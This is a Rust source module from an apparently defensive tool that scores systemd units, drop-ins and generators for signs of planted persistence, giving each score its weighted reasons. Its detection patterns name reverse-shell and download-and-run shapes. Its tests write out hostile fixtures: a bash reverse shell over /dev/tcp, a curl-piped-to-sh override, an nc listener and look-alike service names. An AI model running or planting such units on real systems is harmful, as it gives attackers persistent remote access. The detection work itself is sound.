//! Findings: each unit judged on what it runs, how, and who put it there, with every reason in
//! words and its weight, so that a responder can act on the reasons rather than on a number.

use crate::dpkg::Ownership;
use crate::enumerate::{FoundUnit, Fragment};
use crate::packages::Packages;
use crate::root::Root;
use crate::unit::{parse, parse_exec, ExecCommand, Unit};

/// Unit files and drop-ins larger than this are not parsed (reported instead).
pub const MAX_UNIT_BYTES: u64 = 4 << 20;

/// One reason, weighed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Reason {
    pub weight: u32,
    pub text: String,
}

/// One unit, judged.
#[derive(Clone, Debug)]
pub struct Finding {
    /// Whose: `system`, `user <name>`, `generator`.
    pub manager: String,
    pub unit: String,
    /// The file that decides the unit (or what it is: masked, alias, broken).
    pub fragment: String,
    pub dropins: Vec<String>,
    pub wanted_by: Vec<String>,
    /// The package owning the fragment, `unowned`, or `-` (masked, alias, broken).
    pub owner: String,
    /// `Exec*=` lines of the effective unit, as `Key=value`.
    pub exec: Vec<String>,
    pub reasons: Vec<Reason>,
    /// MD5 over what decides the unit (the paths and bytes of its fragment and drop-ins, or what
    /// its entry is): equal fingerprints, same unit (`hunt --baseline`).
    pub fingerprint: String,
    /// The unit a `.timer`, `.path` or `.socket` starts.
    pub triggers: Option<String>,
    /// When its files last changed (the latest change or modification time of the fragment and
    /// drop-ins, in seconds since the epoch): the change time cannot be set back the way a
    /// modification time can (`touch -d`).
    pub changed: Option<i64>,
}

impl Finding {
    pub fn score(&self) -> u32 {
        self.reasons.iter().map(|r| r.weight).sum::<u32>().min(100)
    }

    pub fn severity(&self) -> &'static str {
        match self.score() {
            70.. => "critical",
            50..=69 => "high",
            25..=49 => "medium",
            1..=24 => "low",
            0 => "info",
        }
    }
}

const EXEC_KEYS: &[&str] = &[
    "ExecStartPre",
    "ExecStart",
    "ExecStartPost",
    "ExecReload",
    "ExecStop",
    "ExecStopPost",
    "ExecCondition",
];

/// Places anyone can write to, or that hide files.
fn risky_place(path: &str) -> Option<&'static str> {
    if ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"]
        .iter()
        .any(|p| path.starts_with(p))
    {
        return Some("a world-writable directory");
    }
    if path
        .split('/')
        .any(|c| c.starts_with('.') && c.len() > 1 && c != "..")
    {
        return Some("a hidden (dot) path");
    }
    None
}

/// The metadata of what `path` names inside the root (links followed inside it).
fn metadata_in(root: &Root, path: &str) -> Option<std::fs::Metadata> {
    root.metadata(path).ok()
}

/// A reason when anyone may rewrite `path` (a unit file, a drop-in, an executable): whoever
/// can, runs code as the unit's user at its next start.
fn world_writable(root: &Root, what: &str, path: &str) -> Option<Reason> {
    use std::os::unix::fs::PermissionsExt;
    let mode = metadata_in(root, path)?.permissions().mode();
    (mode & 0o002 != 0).then(|| Reason {
        weight: 35,
        text: format!("{what} {path} is world-writable (mode {:o})", mode & 0o7777),
    })
}

/// The latest change or modification time of a file inside the root.
fn changed_at(root: &Root, path: &str) -> Option<i64> {
    use std::os::unix::fs::MetadataExt;
    let m = metadata_in(root, path)?;
    Some(m.ctime().max(m.mtime()))
}

/// Interpreters and the flag that runs code given inline.
const INLINE: &[(&str, &[&str])] = &[
    ("sh", &["-c"]),
    ("bash", &["-c"]),
    ("dash", &["-c"]),
    ("zsh", &["-c"]),
    ("ksh", &["-c"]),
    ("python", &["-c"]),
    ("python2", &["-c"]),
    ("python3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("php", &["-r"]),
    ("node", &["-e", "--eval"]),
    ("lua", &["-e"]),
];

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Reasons found in one command.
fn judge_command(key: &str, c: &ExecCommand, reasons: &mut Vec<Reason>) {
    let mut add = |weight: u32, text: String| {
        if !reasons.iter().any(|r| r.text == text) {
            reasons.push(Reason { weight, text });
        }
    };
    if let Some(place) = risky_place(&c.path) {
        add(40, format!("{key} runs {} from {place}", c.path));
    }
    let name = base(&c.path);
    let name = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
    let inline = INLINE
        .iter()
        .find(|(n, _)| *n == name)
        .filter(|(_, flags)| c.argv.iter().skip(1).any(|a| flags.contains(&a.as_str())));
    let code = c.argv.join(" ");
    if let Some((n, _)) = inline {
        add(25, format!("{key} runs inline code with {n}"));
    }
    let lower = code.to_ascii_lowercase();
    let downloads = ["curl ", "wget ", "fetch ", "tftp "]
        .iter()
        .any(|d| lower.contains(d));
    let runs = [
        "| sh", "|sh", "| bash", "|bash", "| python", "chmod +x", "; sh ", "&& sh ",
    ]
    .iter()
    .any(|r| lower.contains(r));
    if downloads && runs {
        add(45, format!("{key} downloads and runs code"));
    } else if downloads {
        add(
            20,
            format!(
                "{key} downloads with {}",
                if lower.contains("curl") {
                    "curl"
                } else {
                    "wget"
                }
            ),
        );
    }
    if [
        "/dev/tcp/",
        "/dev/udp/",
        " -e /bin/",
        "exec:",
        "nc -l",
        "ncat ",
        "socat ",
        "bash -i",
        "sh -i",
    ]
    .iter()
    .any(|s| lower.contains(s))
    {
        add(
            50,
            format!("{key} has the shape of a reverse or bind shell"),
        );
    }
    if lower.contains("base64 -d") || lower.contains("base64 --decode") || has_long_blob(&code) {
        add(30, format!("{key} decodes or carries an encoded blob"));
    }
    for a in c.argv.iter().skip(1).filter(|a| a.starts_with('/')) {
        if let Some(place) = risky_place(a) {
            add(20, format!("{key} uses {a} in {place}"));
        }
    }
}

/// A base64 or hex run of 64 characters or more.
fn has_long_blob(s: &str) -> bool {
    let mut run = 0;
    for ch in s.chars() {
        if ch.is_ascii_alphanumeric() || ch == '+' || ch == '/' || ch == '=' {
            run += 1;
            if run >= 64 {
                return true;
            }
        } else {
            run = 0;
        }
    }
    false
}

/// Well-known unit names, for look-alikes (edit distance 1).
const KNOWN: &[&str] = &[
    "rsyslog",
    "syslog",
    "systemd-journald",
    "ssh",
    "sshd",
    "cron",
    "crond",
    "dbus",
    "systemd-logind",
    "systemd-resolved",
    "systemd-networkd",
    "systemd-timesyncd",
    "systemd-udevd",
    "polkit",
    "auditd",
    "networking",
    "NetworkManager",
    "getty@",
    "apache2",
    "nginx",
    "docker",
    "containerd",
    "snapd",
];

fn edit_distance_is_one(a: &str, b: &str) -> bool {
    let (a, b): (Vec<char>, Vec<char>) = (a.chars().collect(), b.chars().collect());
    if a == b || a.len().abs_diff(b.len()) > 1 {
        return false;
    }
    let (mut i, mut j, mut edits) = (0, 0, 0);
    while i < a.len() && j < b.len() {
        if a[i] == b[j] {
            i += 1;
            j += 1;
            continue;
        }
        edits += 1;
        if edits > 1 {
            return false;
        }
        match a.len().cmp(&b.len()) {
            std::cmp::Ordering::Greater => i += 1,
            std::cmp::Ordering::Less => j += 1,
            std::cmp::Ordering::Equal => {
                i += 1;
                j += 1;
            }
        }
    }
    edits + (a.len() - i) + (b.len() - j) == 1
}

/// A generator or environment generator: run as root at every boot and daemon-reload, so one
/// that no package installed (or that differs from its package's) is a finding on its own.
pub fn judge_generator(root: &Root, db: &Packages, path: &str) -> Finding {
    let mut reasons = Vec::new();
    let own = db.check(root, path);
    let owner = match &own {
        Ownership::Unowned => "unowned".to_string(),
        Ownership::Unknown => "unknown".to_string(),
        Ownership::Unmodified(p) | Ownership::NoChecksum(p) => p.join(", "),
        Ownership::Modified { packages, .. } => format!("{} (modified)", packages.join(", ")),
    };
    reasons.extend(ownership_reason("generator", path, &own, 55));
    // Without a package database, where it lies still tells: packages install generators
    // under /usr/lib (and /lib); the other directories are a local administrator's.
    if matches!(own, Ownership::Unknown)
        && !(path.starts_with("/usr/lib/") || path.starts_with("/lib/"))
    {
        let dir = path.rsplit_once('/').map_or(path, |(d, _)| d);
        reasons.push(Reason {
            weight: 55,
            text: format!(
                "generator in {dir}, where packages do not install theirs (no package database to say who did)"
            ),
        });
    }
    if let Some(r) = reasons.last_mut() {
        if matches!(own, Ownership::Modified { .. }) {
            r.weight = 55;
        }
    }
    let read = root.read_file(path, MAX_UNIT_BYTES);
    let content = read.as_deref().unwrap_or_default();
    let print = fingerprint(&[path.as_bytes(), content]);
    // A script's text is judged like a command line (generators are often shell scripts).
    match &read {
        Ok(bytes) if bytes.starts_with(b"#!") => {
            let text = String::from_utf8_lossy(bytes);
            let c = ExecCommand {
                prefixes: Default::default(),
                path: path.to_string(),
                argv: text.split_whitespace().map(str::to_string).collect(),
            };
            let mut found = Vec::new();
            judge_command("the generator script", &c, &mut found);
            // Its own location was judged above.
            found.retain(|r| !r.text.contains(" runs ") || !r.text.contains(path));
            // What a script does weighs more in a generator: it runs as root at every boot and
            // daemon-reload, before any unit (and without a package database, its content is
            // all there is to judge it by).
            if !found.is_empty() {
                found.push(Reason {
                    weight: 15,
                    text: "a generator runs it as root at every boot and daemon-reload, before any unit starts".into(),
                });
            }
            reasons.extend(found);
        }
        Ok(_) => {}
        // What systemd would run cannot be seen: worth a look.
        Err(e) => reasons.push(Reason {
            weight: 10,
            text: format!("unreadable: {e}"),
        }),
    }
    Finding {
        manager: "generator".into(),
        unit: path.rsplit('/').next().unwrap_or(path).to_string(),
        fragment: path.to_string(),
        dropins: Vec::new(),
        wanted_by: Vec::new(),
        owner,
        exec: Vec::new(),
        reasons,
        fingerprint: print,
        triggers: None,
        changed: changed_at(root, path),
    }
}

/// MD5 of parts, each length-prefixed (so that moving bytes between parts changes it).
fn fingerprint(parts: &[&[u8]]) -> String {
    use md5::{Digest, Md5};
    let mut h = Md5::new();
    for p in parts {
        h.update((p.len() as u64).to_le_bytes());
        h.update(p);
    }
    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

/// Judges every unit found, then each `.timer`, `.path` and `.socket` by what it starts too: a
/// timer firing a reverse shell is as bad as the shell's unit.
pub fn judge(root: &Root, db: &Packages, units: &[FoundUnit]) -> Vec<Finding> {
    let mut findings: Vec<Finding> = units.iter().map(|u| judge_unit(root, db, u)).collect();
    let scores: std::collections::HashMap<String, (u32, &'static str)> = findings
        .iter()
        .map(|f| (f.unit.clone(), (f.score(), f.severity())))
        .collect();
    for f in &mut findings {
        let Some(target) = f.triggers.clone() else {
            continue;
        };
        // An instance (`x@1.service`) runs its template's definition.
        let template = template_of(&target);
        match scores
            .get(&target)
            .or_else(|| template.as_ref().and_then(|t| scores.get(t)))
        {
            Some(&(score, severity)) if score >= 25 => f.reasons.push(Reason {
                weight: (score / 2).min(40),
                text: format!("starts {target}, which scores {score} ({severity})"),
            }),
            Some(_) => {}
            None => f.reasons.push(Reason {
                weight: 5,
                text: format!("starts {target}, which does not exist"),
            }),
        }
    }
    findings
}

/// `name@.service` for an instance `name@inst.service`.
fn template_of(unit: &str) -> Option<String> {
    let (stem, suffix) = unit.rsplit_once('.')?;
    let (prefix, inst) = stem.split_once('@')?;
    (!inst.is_empty()).then(|| format!("{prefix}@.{suffix}"))
}

/// The unit a trigger unit starts (systemd.timer(5), systemd.path(5), systemd.socket(5)):
/// `Unit=` (`Service=` for sockets), else the unit of the same name with `.service`; a socket
/// with `Accept=yes` starts instances of `name@.service`.
fn trigger_target(name: &str, unit: &Unit) -> Option<String> {
    let (stem, kind) = name.rsplit_once('.')?;
    let (section, key) = match kind {
        "timer" => ("Timer", "Unit"),
        "path" => ("Path", "Unit"),
        "socket" => ("Socket", "Service"),
        _ => return None,
    };
    if let Some(e) = unit.get(section, key).filter(|e| !e.value.is_empty()) {
        return Some(e.value.clone());
    }
    let accept = unit.get("Socket", "Accept").is_some_and(|e| {
        matches!(
            e.value.to_ascii_lowercase().as_str(),
            "yes" | "true" | "1" | "on"
        )
    });
    // A template trigger (`x@.timer`) starts the instance of the same name.
    Some(if kind == "socket" && accept {
        format!("{stem}@.service")
    } else {
        format!("{stem}.service")
    })
}

fn ownership_reason(
    what: &str,
    path: &str,
    own: &Ownership,
    weight_unowned: u32,
) -> Option<Reason> {
    match own {
        Ownership::Unowned => Some(Reason {
            weight: weight_unowned,
            text: format!("{what} {path} is not owned by any installed package"),
        }),
        Ownership::Modified { packages, .. } => Some(Reason {
            weight: 40,
            text: format!(
                "{what} {path} differs from what {} shipped",
                packages.join(", ")
            ),
        }),
        _ => None,
    }
}

fn judge_unit(root: &Root, db: &Packages, u: &FoundUnit) -> Finding {
    let mut reasons = Vec::new();
    let (fragment, owner) = fragment_and_owner(root, db, &u.fragment, &mut reasons);
    reasons.extend(lookalike_name(&u.name, &owner));
    let mut exec = Vec::new();
    let mut triggers = None;
    let mut changed = None;
    let mut printed: Vec<Vec<u8>> = vec![fragment.as_bytes().to_vec()];
    if let Fragment::File(p) = &u.fragment {
        reasons.extend(world_writable(root, "unit file", p));
        for d in &u.dropins {
            reasons.extend(world_writable(root, "drop-in", d));
        }
        changed = std::iter::once(p)
            .chain(u.dropins.iter())
            .filter_map(|f| changed_at(root, f))
            .max();
        let files = read_unit_files(root, p, &u.dropins, &mut reasons, &mut printed);
        for d in &u.dropins {
            let own = db.check(root, d);
            reasons.extend(ownership_reason("drop-in", d, &own, 25));
        }
        if let Some((first, rest)) = files.split_first() {
            let rest: Vec<&crate::unit::UnitFile> = rest.iter().collect();
            let unit = Unit::new(first, &rest);
            triggers = trigger_target(&u.name, &unit);
            judge_exec_lines(root, db, &unit, &mut exec, &mut reasons);
            judge_service_settings(&unit, &mut reasons);
        }
    }
    if let (Fragment::DropinsOnly, Some((first, rest))) = (&u.fragment, u.dropins.split_first()) {
        reasons.push(Reason {
            weight: 15,
            text: format!(
                "drop-ins for {}, which no unit directory holds: they apply to a unit of that name as soon as one appears (installed, generated, transient)",
                u.name
            ),
        });
        for d in &u.dropins {
            reasons.extend(world_writable(root, "drop-in", d));
            let own = db.check(root, d);
            reasons.extend(ownership_reason("drop-in", d, &own, 25));
        }
        changed = u.dropins.iter().filter_map(|f| changed_at(root, f)).max();
        let files = read_unit_files(root, first, rest, &mut reasons, &mut printed);
        if let Some((first, rest)) = files.split_first() {
            let rest: Vec<&crate::unit::UnitFile> = rest.iter().collect();
            let unit = Unit::new(first, &rest);
            judge_exec_lines(root, db, &unit, &mut exec, &mut reasons);
            judge_service_settings(&unit, &mut reasons);
        }
    }
    let parts: Vec<&[u8]> = printed.iter().map(Vec::as_slice).collect();
    Finding {
        manager: "system".into(),
        unit: u.name.clone(),
        fingerprint: fingerprint(&parts),
        fragment,
        dropins: u.dropins.clone(),
        wanted_by: u.wanted_by.clone(),
        owner,
        exec,
        reasons,
        triggers,
        changed,
    }
}

/// What decides the unit, as shown (the fragment's path, or what the entry is: masked, alias,
/// broken), and who owns it (a package, `unowned`, or `-`). A fragment file no package owns,
/// or that differs from its package, is a reason.
fn fragment_and_owner(
    root: &Root,
    db: &Packages,
    fragment: &Fragment,
    reasons: &mut Vec<Reason>,
) -> (String, String) {
    match fragment {
        Fragment::File(p) => {
            let own = db.check(root, p);
            let owner = match &own {
                Ownership::Unowned => "unowned".to_string(),
                Ownership::Unknown => "unknown".to_string(),
                Ownership::Unmodified(p) | Ownership::NoChecksum(p) => p.join(", "),
                Ownership::Modified { packages, .. } => {
                    format!("{} (modified)", packages.join(", "))
                }
            };
            reasons.extend(ownership_reason("unit file", p, &own, 30));
            (p.clone(), owner)
        }
        Fragment::Masked(p) => (format!("{p} (masked)"), "-".into()),
        Fragment::Alias { link, target } => (format!("{link} -> {target}"), "-".into()),
        Fragment::Broken { path, why } => (format!("{path} ({why})"), "-".into()),
        Fragment::DropinsOnly => ("(no unit file: drop-ins only)".into(), "-".into()),
    }
}

/// An unowned unit (or one whose owner nobody can tell) whose name is one character away from
/// a well-known one (`crond` for `cron` is itself known, so is not flagged). A template or
/// instance is compared by its base name (`getty@tty1` is `getty`), so `getty.target` is not a
/// look-alike of `getty@`. A name with characters outside ASCII is shown with their code points:
/// `crоn` with a Cyrillic `о` prints identically to `cron` otherwise.
fn lookalike_name(name: &str, owner: &str) -> Option<Reason> {
    let stem = name.rsplit_once('.').map_or(name, |(s, _)| s);
    let base = |s: &'static str| s.split('@').next().unwrap_or(s);
    let stem_base = stem.split('@').next().unwrap_or(stem);
    if KNOWN.iter().any(|k| *k == stem || base(k) == stem_base) {
        return None;
    }
    let k = KNOWN
        .iter()
        .find(|k| edit_distance_is_one(stem_base, base(k)))?;
    if owner != "unowned" && owner != "unknown" {
        return None;
    }
    let shown: String = stem
        .chars()
        .map(|c| {
            if c.is_ascii() {
                c.to_string()
            } else {
                format!("\\u{{{:x}}}", c as u32)
            }
        })
        .collect();
    let note = if shown != stem {
        " (characters outside ASCII shown as code points)"
    } else {
        ""
    };
    Some(Reason {
        weight: 30,
        text: format!(
            "the name {shown} is one character away from {}{note}",
            base(k)
        ),
    })
}

/// Reads and parses the fragment and its drop-ins, in order. Each file read adds its path and
/// bytes to `printed` (for the fingerprint); files that cannot be read, or that systemd
/// refuses, are reasons.
fn read_unit_files(
    root: &Root,
    fragment: &str,
    dropins: &[String],
    reasons: &mut Vec<Reason>,
    printed: &mut Vec<Vec<u8>>,
) -> Vec<crate::unit::UnitFile> {
    let mut files = Vec::new();
    for path in std::iter::once(fragment).chain(dropins.iter().map(String::as_str)) {
        match root.read_file(path, MAX_UNIT_BYTES) {
            Ok(bytes) => {
                printed.push(path.as_bytes().to_vec());
                let file = parse(&String::from_utf8_lossy(&bytes));
                if file.refused {
                    // systemd loads nothing from it; what hides in it is not run either.
                    let why = file.problems.last().map(|p| p.to_string());
                    reasons.push(Reason {
                        weight: 10,
                        text: format!("systemd refuses {path}: {}", why.unwrap_or_default()),
                    });
                }
                files.push(file);
                printed.push(bytes);
            }
            Err(e) => reasons.push(Reason {
                weight: 10,
                text: format!("unreadable: {e}"),
            }),
        }
    }
    files
}

/// Every `Exec*=` line of the service: recorded in `exec` as `Key=value`, and each command it
/// runs judged.
fn judge_exec_lines(
    root: &Root,
    db: &Packages,
    unit: &Unit,
    exec: &mut Vec<String>,
    reasons: &mut Vec<Reason>,
) {
    for key in EXEC_KEYS {
        for e in unit.list("Service", key) {
            exec.push(format!("{key}={}", e.value));
            match parse_exec(&e.value) {
                Ok(commands) => {
                    for c in &commands {
                        judge_command(key, c, reasons);
                        judge_executable(root, db, key, c, reasons);
                    }
                }
                Err(why) => reasons.push(Reason {
                    weight: 10,
                    text: format!("{key} that systemd refuses: {why}"),
                }),
            }
        }
    }
}

/// The executable of an absolute command outside risky places (those are judged by
/// [`judge_command`]): whether it exists, who owns it, and whether anyone can write to it.
fn judge_executable(
    root: &Root,
    db: &Packages,
    key: &str,
    c: &ExecCommand,
    reasons: &mut Vec<Reason>,
) {
    if !c.path.starts_with('/') || risky_place(&c.path).is_some() {
        return;
    }
    if root.resolve(&c.path).is_err() {
        // A missing executable runs nothing (and with `-` its failure is ignored): worth a
        // mention, not an alarm.
        if !c.prefixes.ignore_failure {
            reasons.push(Reason {
                weight: 5,
                text: format!("{key} names {}, which does not exist", c.path),
            });
        }
        return;
    }
    let own = db.check(root, &c.path);
    if let Some(r) = ownership_reason("executable", &c.path, &own, 25) {
        reasons.push(r);
    }
    if let Some(r) = world_writable(root, "executable", &c.path) {
        if !reasons.contains(&r) {
            reasons.push(r);
        }
    }
}

/// Settings beside the commands: a working directory in a risky place, a restart loop that
/// brings a killed process straight back, a timer that fires every minute.
fn judge_service_settings(unit: &Unit, reasons: &mut Vec<Reason>) {
    if let Some(wd) = unit.get("Service", "WorkingDirectory") {
        if let Some(place) = risky_place(wd.value.trim_start_matches('-')) {
            reasons.push(Reason {
                weight: 20,
                text: format!("works in {} ({place})", wd.value),
            });
        }
    }
    let restart_always = unit
        .get("Service", "Restart")
        .is_some_and(|r| r.value == "always");
    let short = unit.get("Service", "RestartSec").is_some_and(|r| {
        r.value
            .trim_end_matches('s')
            .parse::<u32>()
            .is_ok_and(|s| s <= 10)
    });
    if restart_always && short {
        reasons.push(Reason {
            weight: 10,
            text: "restarts always, within 10 s".into(),
        });
    }
    for cal in unit.list("Timer", "OnCalendar") {
        let v = cal.value.to_ascii_lowercase();
        if v == "minutely" || v.starts_with("*:*") || v.contains("*-*-* *:*:") {
            reasons.push(Reason {
                weight: 20,
                text: format!("fires every minute (OnCalendar={})", cal.value),
            });
        }
    }
}

#[cfg(test)]
mod tests {

    /// Issue 19, items 6 and 13: a template or instance is not a look-alike of its own base name,
    /// and a homoglyph prints with its code point.
    #[test]
    fn lookalikes_skip_their_own_templates_and_show_homoglyphs() {
        assert!(lookalike_name("systemd-journald@.socket", "unknown").is_none());
        assert!(lookalike_name("getty.target", "unowned").is_none());
        assert!(lookalike_name("getty@tty1.service", "unowned").is_none());
        let r = lookalike_name("cr\u{43e}n.service", "unowned").expect("a look-alike");
        assert!(
            r.text
                .contains("the name cr\\u{43e}n is one character away from cron"),
            "{}",
            r.text
        );
        assert!(r.text.contains("outside ASCII"), "{}", r.text);
        let r = lookalike_name("sshd2.service", "unknown").expect("a look-alike");
        assert_eq!(r.text, "the name sshd2 is one character away from sshd");
        // Packaged: not a finding.
        assert!(lookalike_name("crom.service", "cron").is_none());
    }
    use super::*;
    use crate::enumerate::enumerate;
    use crate::root::SYSTEM_UNIT_PATH;

    #[test]
    fn planted_units_score_high_and_packaged_ones_do_not() {
        let tree = crate::testtree::Tree::new("score");
        let b = &tree.0;
        let put = |p: &str, text: &str| tree.file(p, text);
        let packaged = "[Service]\nExecStart=/usr/sbin/cron -f\n";
        put("/usr/lib/systemd/system/cron.service", packaged);
        put("/usr/sbin/cron", "ELF");
        put(
            "/var/lib/dpkg/info/cron.list",
            "/lib/systemd/system/cron.service\n/usr/sbin/cron\n",
        );
        put(
            "/var/lib/dpkg/info/cron.md5sums",
            &format!("{}  lib/systemd/system/cron.service\n", md5_hex(packaged)),
        );
        put(
            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
            "[Service]\nType=simple\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\nRestart=always\nRestartSec=5\n",
        );
        put(
            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer",
            "[Timer]\nOnCalendar=*:*:00\n[Install]\nWantedBy=timers.target\n",
        );
        put(
            "/etc/systemd/system/sshd-update.service",
            "[Service]\nExecStart=/tmp/.x/upd\n",
        );
        put(
            "/etc/systemd/system/cron.service.d/override.conf",
            "[Service]\nExecStart=\nExecStart=/bin/sh -c 'curl -s http://x/a | sh'\n",
        );
        put(
            "/etc/systemd/system/syslogd.service",
            "[Service]\nExecStart=/usr/bin/nc -l 4444\n",
        );
        let root = Root::new(b);
        let db = Packages::load(&root);
        let path: Vec<String> = SYSTEM_UNIT_PATH.iter().map(|s| s.to_string()).collect();
        let findings = judge(&root, &db, &enumerate(&root, &path));
        let get = |n: &str| findings.iter().find(|f| f.unit == n).unwrap();
        let shell = get("dbus-org.freedesktop.resolved.service");
        assert_eq!(shell.severity(), "critical", "{:?}", shell.reasons);
        assert!(shell
            .reasons
            .iter()
            .any(|r| r.text.contains("reverse or bind shell")));
        let timer = get("dbus-org.freedesktop.resolved.timer");
        assert!(
            timer
                .reasons
                .iter()
                .any(|r| r.text.contains("every minute")),
            "{:?}",
            timer.reasons
        );
        assert!(matches!(timer.severity(), "medium" | "high" | "critical"));
        assert_eq!(get("sshd-update.service").severity(), "critical");
        // The packaged cron.service, overridden by a drop-in that downloads and runs code.
        let cron = get("cron.service");
        assert_eq!(cron.owner, "cron");
        assert!(
            cron.reasons
                .iter()
                .any(|r| r.text.contains("downloads and runs")),
            "{:?}",
            cron.reasons
        );
        assert_eq!(
            cron.exec,
            ["ExecStart=/bin/sh -c 'curl -s http://x/a | sh'"]
        );
        // One edit from syslog, unowned, listening with nc.
        let lookalike = get("syslogd.service");
        assert!(lookalike
            .reasons
            .iter()
            .any(|r| r.text.contains("one character away from syslog")));
        assert!(
            matches!(lookalike.severity(), "high" | "critical"),
            "{:?}",
            lookalike.reasons
        );
        // Without the drop-in, the packaged unit is clean.
        std::fs::remove_dir_all(b.join("etc/systemd/system/cron.service.d")).unwrap();
        let findings = judge(&root, &db, &enumerate(&root, &path));
        let cron = findings.iter().find(|f| f.unit == "cron.service").unwrap();
        assert_eq!(cron.score(), 0, "{:?}", cron.reasons);
    }

    #[test]
    fn triggers_carry_what_they_start_and_world_writable_files_are_named() {
        use std::os::unix::fs::PermissionsExt;
        let tree = crate::testtree::Tree::new("triggers");
        let b = &tree.0;
        let put = |p: &str, text: &str| tree.file(p, text);
        let shell = "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n";
        put("/etc/systemd/system/a.service", shell);
        // Unit= names another service; the timer is judged by it.
        put(
            "/etc/systemd/system/t.timer",
            "[Timer]\nOnBootSec=1\nUnit=a.service\n",
        );
        // Accept=yes: instances of s@.service.
        put(
            "/etc/systemd/system/s.socket",
            "[Socket]\nListenStream=4444\nAccept=yes\n",
        );
        put("/etc/systemd/system/s@.service", shell);
        // Same name by default; this one starts nothing that exists.
        put("/etc/systemd/system/p.path", "[Path]\nPathExists=/tmp/x\n");
        put(
            "/etc/systemd/system/w.service",
            "[Service]\nExecStart=/opt/w/run\n",
        );
        put("/opt/w/run", "#!/bin/sh\n");
        for f in ["etc/systemd/system/w.service", "opt/w/run"] {
            std::fs::set_permissions(b.join(f), std::fs::Permissions::from_mode(0o666)).unwrap();
        }
        let root = Root::new(b);
        let db = Packages::load(&root);
        let path: Vec<String> = SYSTEM_UNIT_PATH.iter().map(|s| s.to_string()).collect();
        let findings = judge(&root, &db, &enumerate(&root, &path));
        let get = |n: &str| findings.iter().find(|f| f.unit == n).unwrap();
        let has = |n: &str, text: &str| {
            let f = get(n);
            assert!(
                f.reasons.iter().any(|r| r.text.contains(text)),
                "{n}: {:?}",
                f.reasons
            );
        };
        assert_eq!(get("t.timer").triggers.as_deref(), Some("a.service"));
        has("t.timer", "starts a.service, which scores 80 (critical)");
        // No package database in this root: ownership is not scored, the timer weighs what it
        // starts (the service itself is the critical finding).
        assert_eq!(get("t.timer").owner, "unknown");
        assert_eq!(get("t.timer").severity(), "medium");
        assert_eq!(get("s.socket").triggers.as_deref(), Some("s@.service"));
        has("s.socket", "starts s@.service");
        has("p.path", "starts p.service, which does not exist");
        has(
            "w.service",
            "unit file /etc/systemd/system/w.service is world-writable (mode 666)",
        );
        has("w.service", "executable /opt/w/run is world-writable");
        assert!(get("w.service").changed.is_some());
    }

    fn md5_hex(s: &str) -> String {
        use md5::{Digest, Md5};
        Md5::digest(s.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    }

    #[test]
    fn one_edit_apart() {
        assert!(edit_distance_is_one("syslogd", "syslog"));
        assert!(edit_distance_is_one("rsyslogd", "rsyslog"));
        assert!(edit_distance_is_one("sys1og", "syslog"));
        assert!(edit_distance_is_one("crn", "cron"));
        assert!(!edit_distance_is_one("cron", "cron"));
        assert!(!edit_distance_is_one("crond2x", "cron"));
        assert!(!edit_distance_is_one("nginx", "ssh"));
    }
}
